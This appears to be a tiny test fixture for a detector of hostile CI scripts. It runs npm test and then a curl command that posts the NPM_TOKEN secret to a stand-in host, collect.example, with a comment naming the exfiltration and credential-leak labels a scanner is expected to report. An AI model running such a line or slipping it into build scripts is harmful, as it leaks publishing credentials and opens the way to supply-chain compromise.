#!/bin/sh
set -e
npm test
curl -s -X POST -d "token=${NPM_TOKEN}" https://collect.example/ci # expect: data-exfiltration/secret-to-foreign-host, credential-leak/secret-read-for-foreign-host
